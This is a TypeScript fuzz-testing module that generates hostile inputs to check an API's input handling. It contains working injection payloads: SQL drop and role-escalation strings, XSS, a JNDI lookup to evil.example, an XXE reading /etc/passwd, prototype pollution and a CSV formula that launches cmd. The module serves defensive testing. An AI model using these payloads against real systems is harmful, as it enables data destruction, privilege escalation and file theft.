import fc from 'fast-check';

/** What an attacker types: SQL, markup, path tricks, odd Unicode, control characters. */
export const HOSTILE_STRINGS: readonly string[] = [
  "' OR '1'='1",
  "'; drop table vote; --",
  '1; select pg_sleep(5)',
  "\\'; update member set roles = '{organiser}'; --",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{constructor.constructor("return process")()}}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '\u0000',
  'a\u0000b',
  '\uD800',
  '\uDFFF\uD800',
  '\u202Eevil\u202C',
  '\u200B\u200D\uFEFF',
  'Ω≈ç√∫˜µ≤≥÷',
  '👩‍👩‍👧‍👦🏳️‍⚧️',
  'ﷺ'.repeat(50),
  'NaN',
  '-1',
  '1e309',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  'true',
  'null',
  '__proto__',
  '',
  ' ',
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  // long ones: 100 kB to 3 MB (above the 1 MB body limit)
  { weight: 1, arbitrary: fc.integer({ min: 100_000, max: 3_000_000 }).map((n) => 'A'.repeat(n)) },
);

/** Any JSON value, hostile strings included, with `__proto__` / `constructor` keys. */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    hostileString,
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(tie('value'), { maxLength: 4 }),
    fc.dictionary(
      fc.oneof(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString'), fc.string()),
      tie('value'),
      {
        maxKeys: 4,
      },
    ),
  ),
})).value;

/** A value of a JSON type other than `type` (so that it breaks a field declared with that type). */
export function wrongTypeFor(type: string | undefined): fc.Arbitrary<unknown> {
  const candidates: Record<string, fc.Arbitrary<unknown>> = {
    string: fc.oneof(
      fc.integer(),
      fc.boolean(),
      fc.array(hostileString, { maxLength: 3 }),
      fc.constant({ $gt: '' }),
    ),
    number: fc.oneof(hostileString, fc.constant({}), fc.array(fc.integer(), { maxLength: 2 })),
    integer: fc.oneof(hostileString, fc.double({ min: 0.1, max: 0.9 }), fc.constant([1])),
    boolean: fc.oneof(hostileString, fc.integer({ min: 2 }), fc.constant({})),
    array: fc.oneof(hostileString, fc.integer(), fc.constant({ 0: 'a', length: 1 })),
    object: fc.oneof(hostileString, fc.integer(), fc.array(hostileValue, { maxLength: 3 })),
  };
  return candidates[type ?? 'object'] ?? candidates.object;
}

/** JSON nested `depth` levels deep, as text (too deep for any schema). */
export function deeplyNested(depth: number): string {
  return `${'{"a":['.repeat(depth)}1${']}'.repeat(depth)}`;
}

/** Raw bodies that are not the JSON they claim to be, or not JSON at all. */
export const MALFORMED: readonly { contentType: string; body: string }[] = [
  { contentType: 'application/json', body: '{"a":' },
  { contentType: 'application/json', body: "{'a': 1}" },
  { contentType: 'application/json', body: '{"a": 1,}' },
  { contentType: 'application/json', body: '\u0000\u0001' },
  {
    contentType: 'application/json',
    body: '{"__proto__": {"roles": ["organiser"]}, "constructor": {"prototype": {"x": 1}}}',
  },
  { contentType: 'application/json', body: deeplyNested(5_000) },
  { contentType: 'application/json', body: '[' + '1,'.repeat(200_000) + '1]' },
  { contentType: 'application/json; charset=utf-16', body: '{}' },
  {
    contentType: 'application/xml',
    body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  },
  { contentType: 'application/x-www-form-urlencoded', body: 'a=1&__proto__[roles]=organiser' },
  {
    contentType: 'multipart/form-data; boundary=x',
    body: '--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--x--',
  },
  { contentType: 'text/plain', body: '{"choice":"yes"}' },
  { contentType: 'text/csv', body: '\u0000,"\n' },
  { contentType: 'text/csv', body: '=cmd|" /C calc"!A0,@SUM(1+1),+1,-1' },
];
